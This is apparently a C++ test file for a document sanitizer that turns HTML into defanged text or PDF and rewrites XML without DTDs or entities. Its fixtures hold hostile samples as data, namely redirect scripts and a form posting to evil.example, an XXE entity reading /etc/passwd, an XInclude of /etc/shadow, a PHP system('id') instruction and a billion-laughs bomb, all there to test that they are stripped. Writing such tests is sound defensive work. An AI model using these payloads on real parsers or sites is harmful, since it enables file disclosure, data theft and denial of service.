// HTML files become text with defanged links (or a PDF through the converter); XML is written anew
// without DTD, entities, processing instructions or XInclude. Checked with Python's parsers.
#include <doctest/doctest.h>

#include "fixtures.hpp"
#include "legacy_support.hpp"
#include "mugaika/engine.hpp"
#include "mugaika/registry.hpp"

using namespace mugaika;
using namespace mugaika::test;

namespace {

Outcome plain(const std::string& bytes, const std::string& name, const std::string& policy = "") {
    Registry r = builtin_registry();
    Engine e(r, policy.empty() ? Policy::defaults() : parse_policy_text(policy, "t.toml", r));
    return e.process(bytes, name);
}

bool has(const Outcome& o, std::string_view kind) { return legacy::has_finding(o, kind); }

}  // namespace

TEST_CASE("html file: script, iframe, meta refresh, forms and javascript: links never reach the text, links are shown defanged") {
    std::string html =
        "<!DOCTYPE html><html><head><meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\">"
        "<meta charset=\"shift_jis\"><title>t</title><script>document.location='http://evil.example/'</script></head><body>"
        "<h1>\x90\xBF\x8B\x81\x8F\x91</h1>"   // 請求書 in Shift_JIS
        "<p>詳細は<a href=\"https://city.example.lg.jp/info\">こちら</a>。</p>"
        "<iframe src=\"http://evil.example/frame\">frame text</iframe>"
        "<a href=\"javascript:alert(1)\">click</a><form action=\"http://evil.example/post\"><input name=q value=secret></form>"
        "<img src=\"http://tracker.example/p.gif\" width=1 height=1><div style=\"display:none\">hidden words</div>"
        "</body></html>";
    // The Japanese in the link text is UTF-8 in this literal; the heading is Shift_JIS: make it all Shift_JIS-free.
    html.replace(html.find("詳細は"), std::string("詳細は").size(), "more at ");
    html.replace(html.find("こちら"), std::string("こちら").size(), "here");
    html.replace(html.find("。"), std::string("。").size(), ".");
    Outcome o = plain(html, "請求書.html");
    REQUIRE_MESSAGE(!o.quarantined(), (o.reason + ": " + o.reason_detail));
    CHECK(o.verdict == Verdict::disarmed);
    REQUIRE(o.outputs.size() == 1);
    CHECK(o.outputs[0].type == "text");
    CHECK(o.outputs[0].name == "請求書.txt");
    const std::string& t = o.outputs[0].bytes;
    CHECK(t.starts_with("\xEF\xBB\xBF"));
    CHECK(t.find("請求書") != std::string::npos);
    CHECK_MESSAGE(t.find("hxxps://city[.]example[.]lg[.]jp/info") != std::string::npos, t);
    for (const char* gone : {"document.location", "evil", "frame text", "javascript", "secret", "hidden words", "tracker", "<script", "<iframe", "<form"})
        CHECK_MESSAGE(t.find(gone) == std::string::npos, gone);
    CHECK(has(o, "html.script"));
    CHECK(has(o, "html.converted"));
    CHECK(has(o, "html.dangerous_link"));
}

TEST_CASE("html file: links = drop leaves no target, undecodable bytes are held as charset") {
    Outcome o = plain("<html><body><a href=\"https://example.jp/x\">x</a></body></html>", "a.htm",
                      "[sanitizer.html]\nlinks = \"drop\"\n");
    REQUIRE(!o.quarantined());
    CHECK(o.outputs[0].bytes.find("example") == std::string::npos);
    Outcome bad = plain(std::string("<html><body>") + std::string("\xFF\xFE\x00\xD8\x00", 5) + std::string(200, '\x81') + "</body></html>", "b.html");
    CHECK(bad.quarantined());
}

TEST_CASE("xml file: DTD, external entities, processing instructions and XInclude are removed, Python reads the result, entity bombs are held") {
    TempDir work;
    std::string xml =
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
        "<?xml-stylesheet type=\"text/xsl\" href=\"http://evil.example/x.xsl\"?>\n"
        "<!DOCTYPE r [<!ENTITY xxe SYSTEM \"file:///etc/passwd\"><!ENTITY a \"aaaaaaaaaa\">]>\n"
        "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><name>申請書</name><leak>&xxe;</leak><bomb>&a;</bomb>"
        "<xi:include href=\"file:///etc/shadow\"/><?php system('id'); ?><v a=\"1&amp;2\">3 &lt; 4</v></r>\n";
    Outcome o = plain(xml, "data.xml");
    REQUIRE_MESSAGE(!o.quarantined(), (o.reason + ": " + o.reason_detail));
    CHECK(o.verdict == Verdict::disarmed);
    const std::string& out = o.outputs[0].bytes;
    for (const char* gone : {"DOCTYPE", "ENTITY", "xml-stylesheet", "passwd", "shadow", "xi:include", "<?php", "aaaa", "&xxe;"})
        CHECK_MESSAGE(out.find(gone) == std::string::npos, gone);
    CHECK(out.find("申請書") != std::string::npos);
    CHECK(has(o, "xml.doctype"));
    CHECK(has(o, "xml.entity"));
    CHECK(has(o, "xml.pi"));
    CHECK(has(o, "xml.xinclude"));
    write_file(work / "o.xml", out);
    auto r = run("python3 -c \"import sys,xml.dom.minidom as m; d=m.parse(sys.argv[1]); "
                 "print(d.doctype is None, d.getElementsByTagName('v')[0].getAttribute('a'), d.getElementsByTagName('v')[0].firstChild.data)\" " +
                 shell_quote((work / "o.xml").string()));
    CHECK(r.out == "True 1&2 3 < 4\n");

    // Nested entities (billion laughs): libxml2 refuses the reference loop, the file is held.
    Outcome bomb = plain("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
                         "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">]><r>&c;</r>", "bomb.xml");
    CHECK(bomb.quarantined());
    CHECK(bomb.outputs.empty());
}

TEST_CASE("xml file: a plain document comes back unchanged in meaning, broken XML is held") {
    Outcome o = plain("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<a><b>x</b></a>\n", "ok.xml");
    REQUIRE(!o.quarantined());
    CHECK(o.outputs[0].bytes.find("<a><b>x</b></a>") != std::string::npos);
    Outcome bad = plain("<?xml version=\"1.0\"?><a><b></a>", "bad.xml");
    CHECK(bad.quarantined());
    CHECK(bad.reason == "malformed");
}

TEST_CASE("html file: target = pdf goes through LibreOffice without network and comes back as a rebuilt PDF") {
    if (!legacy::office_available()) {
        MESSAGE("LibreOffice not installed: HTML to PDF skipped");
        return;
    }
    auto e = legacy::engine_with_office("[sanitizer.html]\ntarget = \"pdf\"\n");
    TempDir work;
    Outcome o = e->process("<html><head><meta charset=\"utf-8\"><script>alert(1)</script></head><body><p>請求書 第二号</p></body></html>",
                           "請求書.html");
    REQUIRE_MESSAGE(!o.quarantined(), (o.reason + ": " + o.reason_detail));
    CHECK(o.outputs[0].type == "pdf");
    write_file(work / "o.pdf", o.outputs[0].bytes);
    CHECK(run("qpdf --check " + shell_quote((work / "o.pdf").string()) + " >/dev/null 2>&1").status == 0);
    std::string text = run("pdftotext -q " + shell_quote((work / "o.pdf").string()) + " -").out;
    CHECK(text.find("請求書") != std::string::npos);
    CHECK(text.find("alert") == std::string::npos);
}
